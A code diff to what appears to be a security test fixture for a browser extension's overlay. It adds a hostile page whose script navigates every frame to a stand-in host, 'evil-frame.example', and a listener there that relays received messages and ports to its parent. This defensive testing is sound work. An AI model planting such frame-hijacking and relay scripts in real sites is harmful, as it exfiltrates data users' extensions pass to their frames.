@@ -202,6 +202,10 @@ export type Fight = keyof typeof FIGHTS;
 /** Addresses of every hostile page. */
 export const HOSTILE = {
   injection: pressTvUrl('hostile-title-and-text'),
+  /** Navigates every frame it can reach to {@link HOSTILE.evilFrame} once the overlay shows. */
+  frameHijack: pressTvUrl('frame-hijack'),
+  /** Reports to its parent every message it gets, and whether a port came with it. */
+  evilFrame: 'https://evil-frame.example/listen',
   packPage: 'https://www.hostile-outlet.example/2026/11/payloads',
   fight: Object.fromEntries(Object.keys(FIGHTS).map((name) => [name, pressTvUrl(`fight-${name}`)])) as Record<
     Fight,
@@ -270,6 +274,22 @@ const wait = setInterval(() => {
 }, 50);
 </script>`;
 
+/**
+ * Once the overlay shows, the page navigates every frame it can reach (`window.frames`) to a page
+ * of its own, hoping to receive what Backstory hands its frame. Results in `window.__hijack`.
+ */
+const FRAME_HIJACK = `window.__hijack = { frames: 0, navigated: 0, got: [] };
+addEventListener('message', (event) => { if (event.data && event.data.hijacked) window.__hijack.got.push(event.data); });
+const hijack = setInterval(() => {
+  const host = document.getElementsByTagName('backstory-overlay')[0];
+  if (!host || !host.hasAttribute('data-match')) return;
+  clearInterval(hijack);
+  window.__hijack.frames = window.frames.length;
+  for (let i = 0; i < window.frames.length; i += 1) {
+    try { window.frames[i].location.href = '${'https://evil-frame.example/listen'}'; window.__hijack.navigated += 1; } catch (error) {}
+  }
+}, 10);`;
+
 /** Every hostile and hard page, by address. */
 export function hostilePages(): Map<string, Served> {
   const pages = new Map<string, Served>();
@@ -284,6 +304,18 @@ export function hostilePages(): Map<string, Served> {
         after: MXSS_TRAPS,
       }),
     ),
+  );
+  pages.set(HOSTILE.frameHijack, html(pressTv({ head: `<script>${FRAME_HIJACK}</script>` })));
+  pages.set(
+    HOSTILE.evilFrame,
+    html(`<!doctype html><title>listening</title><script>
+const report = (data) => parent.postMessage(Object.assign({ hijacked: true }, data), '*');
+addEventListener('message', (event) => report({
+  keys: event.data && typeof event.data === 'object' ? Object.keys(event.data) : [String(event.data)],
+  ports: event.ports.length,
+}));
+report({ loaded: true, keys: [], ports: 0 });
+</script>`),
   );
   pages.set(
     HOSTILE.packPage,
